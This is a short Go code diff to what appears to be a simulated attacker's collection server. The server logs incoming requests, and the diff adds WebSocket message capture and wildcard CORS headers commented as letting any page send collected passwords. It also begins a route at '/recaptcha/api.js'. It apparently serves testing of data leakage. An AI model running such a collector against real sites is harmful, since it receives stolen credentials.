@@ -19,8 +19,8 @@ const (
 // point is to find out what arrived.
 type Seen struct {
 	At        time.Time   `json:"at"`
-	Method    string      `json:"method"`
-	Path      string      `json:"path"` // with the query, as sent
+	Method    string      `json:"method"` // "MESSAGE" for what came in by a WebSocket
+	Path      string      `json:"path"`   // with the query, as sent
 	Headers   http.Header `json:"headers"`
 	Body      string      `json:"body"`      // the first 64 KiB
 	Truncated bool        `json:"truncated"` // there was more
@@ -35,6 +35,10 @@ type outside struct {
 }
 
 func (o *outside) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	if asksForSocket(r) {
+		o.listenIn(w, r)
+		return
+	}
 	// A body that breaks off is remembered as far as it came.
 	body, _ := io.ReadAll(io.LimitReader(r.Body, maxBody+1))
 	o.remember(Seen{
@@ -45,6 +49,9 @@ func (o *outside) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 		Body:      string(body[:min(len(body), maxBody)]),
 		Truncated: len(body) > maxBody,
 	})
+	// Whoever collects passwords lets every page send them.
+	w.Header().Set("Access-Control-Allow-Origin", "*")
+	w.Header().Set("Access-Control-Allow-Headers", "*")
 	w.Header().Set("X-Content-Type-Options", "nosniff")
 	switch {
 	case r.URL.Path == "/recaptcha/api.js":
